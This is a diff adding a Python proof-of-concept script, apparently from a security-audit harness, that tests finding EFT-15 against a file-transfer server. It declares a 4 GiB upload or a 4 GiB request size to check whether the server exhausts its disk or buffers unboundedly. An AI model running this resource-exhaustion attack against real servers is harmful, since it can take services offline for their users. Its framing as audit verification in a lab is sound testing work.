@@ -1,0 +1,98 @@
+"""Sizes the peer declares: a 4 GiB file, and a 4 GiB fixed-size request.
+
+``--mode file`` (default): register (free), then start one 828 declaring the largest
+file version 3 can carry (4 GiB - 17 bytes) and stream ``--send`` MiB of it. A server
+with no per-file limit and no per-client quota accepts and writes it all to disk; any
+registered client can repeat this, so the disk is the limit. Success if the server
+was still reading after ``--send`` MiB (no 1607). With ``--data-dir`` we also report how
+much it wrote to its temporary directory.
+
+``--mode fixed``: send an 825 header claiming a 4 GiB payload. A server that reads the
+declared size before judging it waits for (and buffers) 4 GiB. Success if the server
+keeps the connection open instead of refusing at once.
+"""
+
+from __future__ import annotations
+
+import argparse
+import os
+from pathlib import Path
+
+from eft_protocol.codes import REQUEST_HEADER, RequestCode, padded_size
+
+from .common import AttackError, ConnectionClosed, Out, ServerLink, own_session
+from .framing import packet_frame
+
+FINDING = "EFT-15"
+SUMMARY = "declared sizes: a 4 GiB upload with no quota; a 4 GiB fixed-size request"
+MiB = 1 << 20
+LARGEST = 0xFFFFFFFF - 16
+
+
+def add_arguments(parser: argparse.ArgumentParser) -> None:
+    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
+    parser.add_argument("--mode", choices=("file", "fixed"), default="file")
+    parser.add_argument("--send", type=int, default=16, help="MiB of the file to send (16)")
+    parser.add_argument("--data-dir", help="the server's data directory (lab access)")
+
+
+def temp_bytes(data_dir: str | None) -> int | None:
+    if not data_dir:
+        return None
+    return sum(p.stat().st_size for p in Path(data_dir, "tmp").glob("*") if p.is_file())
+
+
+async def big_file(args: argparse.Namespace, out: Out) -> bool:
+    session = await own_session(args.target, f"big-{os.urandom(3).hex()}")
+    link = session.link
+    content_size = padded_size(LARGEST)
+    # One 828 carries at most 4 GiB - 1 - 267 bytes of content: packet 1 of 2.
+    start = packet_frame(
+        session.client_id, "huge.bin", b"", content_size=content_size, orig_size=LARGEST,
+        number=1, total=2,
+    )  # fmt: skip
+    header = REQUEST_HEADER.pack(session.client_id, 3, RequestCode.SEND_FILE, 0xFFFFFFFF)
+    link.writer.write(header + start[REQUEST_HEADER.size :])
+    chunk = bytes(MiB)
+    try:
+        for _ in range(args.send):
+            link.writer.write(chunk)
+            await link.writer.drain()
+        answered = await link.receive(1.0)
+        verdict = f"the server answered {answered.code} while the file was still arriving"
+        accepted = False
+    except ConnectionClosed:
+        verdict, accepted = "the server closed the connection", False
+    except (ConnectionError, OSError) as exc:
+        verdict, accepted = f"the connection broke: {exc}", False
+    except AttackError:  # no answer: the server is still reading, as it should for 4 GiB
+        verdict, accepted = "the server is still reading, silently", True
+    written = temp_bytes(args.data_dir)
+    await link.close()
+    out.step(verdict, temp_bytes=written)
+    return out.result(
+        accepted,
+        f"declared a {LARGEST} byte file and sent {args.send} MiB: {verdict}",
+        declared=LARGEST,
+        sent=args.send * MiB,
+        temp_bytes=written,
+    )
+
+
+async def fixed(args: argparse.Namespace, out: Out) -> bool:
+    link = await ServerLink.open(args.target)
+    header = REQUEST_HEADER.pack(bytes(16), 3, RequestCode.REGISTER, 0xFFFFFFFF)
+    try:
+        await link.send(header + bytes(64 * 1024))
+        closed = await link.closed(2.0)
+    finally:
+        await link.close()
+    return out.result(
+        not closed,
+        "the server " + ("closed the connection at once" if closed else "kept reading"),
+        closed=closed,
+    )
+
+
+async def run(args: argparse.Namespace, out: Out) -> bool:
+    return await (big_file(args, out) if args.mode == "file" else fixed(args, out))
